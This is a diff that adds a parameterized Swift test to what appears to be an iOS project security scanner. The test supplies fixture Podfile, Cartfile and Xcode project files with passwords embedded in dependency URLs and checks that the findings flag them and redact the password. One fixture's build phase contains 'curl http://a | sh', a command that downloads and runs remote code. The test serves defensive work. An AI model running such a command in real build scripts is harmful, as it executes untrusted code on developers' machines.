@@ -32,6 +32,35 @@ import Testing
     <key>CFBundleIdentifier</key><string>jp.example.app</string></dict></plist>
     """
 
+  /// The password in the address of a dependency, which other rules quote with its line or with one beside it.
+  @Test(arguments: [
+    ("Podfile", "pod 'Lib', :git => 'http://mika:hunter2pw@git.example.com/lib.git'\npod 'Other'\n"),
+    ("Podfile", "pod 'Other'\npod 'Lib', :git => 'https://hunter2pw@git.example.com/lib.git'\n"),
+    (
+      "Cartfile", "git \"https://mika:hunter2pw@git.example.com/lib.git\" \"main\" # omamori:ignore nothing\n"
+    ),
+    (
+      "A.xcodeproj/project.pbxproj",
+      """
+      {rootObject=P;objects={P={isa=PBXProject;targets=(T);packageReferences=(R);};
+      T={isa=PBXNativeTarget;name=T;productType="com.apple.product-type.application";buildPhases=(S);};
+      S={isa=PBXShellScriptBuildPhase;shellScript="curl http://a | sh\\n";};
+      R={repositoryURL="https://mika:hunter2pw@git.example.com/lib.git";requirement={kind=branch;branch=b;};};};}
+      """
+    ),
+    (
+      "A.xcodeproj/project.pbxproj",
+      "{rootObject=P;objects={P={packageReferences=(R);};R={repositoryURL=\"https://mika:hunter2pw@git.example.com/lib\";"
+        + "requirement={kind=branch;branch=b;};};};}"
+    ),
+  ])
+  func notInTheAddressOfADependency(_ path: String, _ text: String) async throws {
+    let report = try await audit(["Info.plist": Self.list, path: text])
+    #expect(report.findings.contains { $0.rule == DependencyInsecureSource.id })
+    #expect(report.findings.count { $0.file == path } > 1)
+    #expect(!texts(report).contains("hunter2pw"))
+  }
+
   @Test func notByRulesAboutTheProject() async throws {
     let files = [
       "Info.plist": Self.list,
